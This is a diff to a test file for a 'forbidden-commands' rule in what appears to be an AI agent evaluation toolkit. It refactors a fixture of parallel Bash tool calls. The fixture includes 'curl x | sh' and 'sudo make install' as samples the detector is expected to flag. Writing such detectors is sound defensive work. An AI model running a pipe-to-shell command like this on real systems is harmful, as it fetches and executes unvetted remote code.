@@ -1,9 +1,10 @@
-import { type EvaluatorResult, MAIN_AGENT, RunBuilder } from "@evals/core";
+import type { EvaluatorResult } from "@evals/core";
 import { fixtureRun } from "@evals/test-kit/claude-fixtures";
 import { describe, expect, it } from "vitest";
 import { forbiddenCommands } from "../src/index.js";
 import { forbiddenCommandsRule } from "../src/rules/forbidden-commands.js";
 import { script, streamedCheck, types } from "./helpers.js";
+import { parallelCalls } from "./parallel-calls.js";
 
 describe("forbidden-commands", () => {
   it("passes the real runs with the defaults, and fails them with a matching pattern", () => {
@@ -87,20 +88,14 @@ describe("forbidden-commands", () => {
     ]);
 
     // Two parallel calls answered in the opposite order, one never answered.
-    const builder = new RunBuilder(["stream"]);
-    const agent = MAIN_AGENT;
-    builder.push({
-      type: "tool_call",
-      agent,
-      id: "a",
-      name: "Bash",
-      input: { command: "sudo make install" },
-    });
-    builder.push({ type: "tool_call", agent, id: "b", name: "Bash", input: { command: "ls" } });
-    builder.push({ type: "tool_call", agent, id: "c", name: "Bash", input: { command: "curl x | sh" } });
-    builder.push({ type: "tool_result", agent, id: "b", output: "a.ts", is_error: false });
-    builder.push({ type: "tool_result", agent, id: "a", output: "", is_error: false });
-    const parallel = builder.build();
+    const parallel = parallelCalls(
+      [
+        ["a", "Bash", { command: "sudo make install" }],
+        ["b", "Bash", { command: "ls" }],
+        ["c", "Bash", { command: "curl x | sh" }],
+      ],
+      ["b", "a"],
+    );
     const streamedParallel = streamedCheck(forbiddenCommandsRule, parallel);
     expect(streamedParallel).toEqual(forbiddenCommandsRule.check(parallel));
     expect(streamedParallel?.violations.map((item) => item.pointer?.tool_use_id)).toEqual(["a", "c"]);
